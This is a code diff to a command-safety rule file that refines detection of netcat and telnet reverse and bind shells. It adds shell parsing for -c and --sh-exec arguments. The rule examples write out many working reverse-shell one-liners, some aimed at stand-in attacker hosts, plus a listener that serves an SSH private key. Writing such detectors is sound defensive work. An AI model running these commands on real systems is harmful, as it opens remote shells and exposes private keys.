@@ -1,7 +1,9 @@
 // Reverse and bind shells, and shells spawned through ordinary binaries.
-import type { Invocation } from "../resolve.js";
+import { isSecretFile } from "../paths.js";
+import { NETCATS, netcatCommand, type Invocation } from "../resolve.js";
 import type { CommandRule } from "../rule.js";
-import { downstreamNames, intersects, SHELLS, upstreamNames } from "./facts.js";
+import { parseShell } from "../shell/parse.js";
+import { commandsIn, downstreamNames, intersects, lower, SCRIPT_INTERPRETERS, SHELLS, upstreamNames } from "./facts.js";
 
 const SOCKET_CODE = /socket|fsockopen|tcpsocket|net\.socket|net\.connect|net\.Dial|\/inet\/tcp|io\.popen|require\(['"]net['"]\)/i;
 const SPAWN_CODE = /\|&\s*getline|exec\.Command|\bsystem\b|\bexec\b|subprocess|pty\.spawn|os\.dup2|exec\s*\(|exec\s+["']|spawn\(|popen|system\s*\(|\/bin\/(?:ba)?sh|sh\s+-i|child_process|proc_open/i;
@@ -19,6 +21,20 @@ function inlineCode(inv: Invocation): string {
     else if (/BEGIN\s*\{|system\(|exec\(|socket/i.test(a)) parts.push(a);
   });
   return parts.join("\n");
+}
+
+/** Commands that run what they are given, so a peer writing to them runs code. */
+const RUNS_INPUT = new Set([...SHELLS, ...SCRIPT_INTERPRETERS, "eval", "source", ".", "exec", "xargs", "parallel", "env", "sudo", "su", "script", "expect", "awk", "gawk", "busybox"]);
+
+/**
+ * Does the command netcat joins to a connection give the peer a shell or a secret? It does when
+ * it runs a shell, an interpreter or eval, runs a name only known at run time (`$cmd`), reads a
+ * secret file, or cannot be read at all. `echo`, `date` or `cat page.html` only serve output.
+ */
+function servesShell(code: string): boolean {
+  const script = parseShell(code);
+  if (script.incomplete) return true;
+  return commandsIn(script).some((c) => c.name.includes("$") || RUNS_INPUT.has(c.name.toLowerCase()) || c.args.some(isSecretFile));
 }
 
 function touchesDevTcp(inv: Invocation): boolean {
@@ -45,12 +61,20 @@ export const reverseShellRules: CommandRule[] = [
     reason: "semantic:destructive_command",
     names: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet"],
     check: (inv) => {
-      if (inv.args.some((a) => /^-[a-zA-Z]*[ec]$/.test(a) || a === "--exec" || a === "--sh-exec" || a === "--lua-exec")) return true;
+      // -e names a program to join to the socket; -c and --sh-exec a command line, judged below.
+      if (inv.args.some((a) => /^-[a-zA-Z]*e$/.test(a) || a === "--exec" || a.startsWith("--exec=") || a === "--lua-exec" || a.startsWith("--lua-exec="))) return true;
+      const code = NETCATS.has(lower(inv)) ? netcatCommand(inv.args) : undefined;
+      if (code !== undefined && servesShell(code)) return true;
       return intersects(upstreamNames(inv), SHELLS) || intersects(downstreamNames(inv), SHELLS);
     },
     examples: {
-      positive: ["nc -e /bin/sh 10.0.0.1 4444", "ncat 10.0.0.1 4444 --sh-exec /bin/bash", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f", "telnet attacker.example 23 | /bin/bash | telnet attacker.example 24", "nc -lvp 4444 -e cmd.exe"],
-      negative: ["nc -zv db.internal 5432", "echo ping | nc localhost 6379"],
+      positive: [
+        "nc -e /bin/sh 10.0.0.1 4444", "ncat 10.0.0.1 4444 --sh-exec /bin/bash", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
+        "telnet attacker.example 23 | /bin/bash | telnet attacker.example 24", "nc -lvp 4444 -e cmd.exe", "nc -c /bin/sh evil.example 4444", "nc -l -p 4444 -c 'bash -i'",
+        "ncat -l 4444 --sh-exec 'while read l; do eval \"$l\"; done'", "nc -lc 'python3 -i' -p 9000", "nc -l -p 80 -c 'cat ~/.ssh/id_rsa'", "nc -l -p 80 -c \"$PAYLOAD\"",
+        "ncat -l 4444 --sh-exec='exec sh'", "nc -l -p 9 -c 'xargs -n1 sh -c'",
+      ],
+      negative: ["nc -zv db.internal 5432", "echo ping | nc localhost 6379", "nc -l -p 1500 -c 'echo -e \"HTTP/1.1 200 OK\\n\\n $(date)\"'", "ncat -l 8080 --sh-exec 'cat index.html'"],
     },
   },
   {
@@ -59,10 +83,14 @@ export const reverseShellRules: CommandRule[] = [
     severity: "medium",
     reason: "semantic:destructive_command",
     names: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"],
-    check: (inv) => inv.args.some((a) => a === "-l" || a === "--listen" || /^-[a-z]*l[a-z]*$/.test(a)) && !inv.redirects.some((r) => r.op === ">" || r.op === ">>"),
+    // With -c or --sh-exec the connection talks to that command, not to this terminal, and netcat-shell judges it.
+    check: (inv) =>
+      inv.args.some((a) => a === "-l" || a === "--listen" || /^-[a-z]*l[a-z]*$/.test(a)) &&
+      !inv.redirects.some((r) => r.op === ">" || r.op === ">>") &&
+      netcatCommand(inv.args) === undefined,
     examples: {
       positive: ["nc -u -lvp 4242", "ncat -l 4444", "nc -nlvp 9001"],
-      negative: ["nc -l 9000 > received.bin", "nc -zv host 22"],
+      negative: ["nc -l 9000 > received.bin", "nc -zv host 22", "nc -l -p 1500 -c 'echo ok'"],
     },
   },
   {
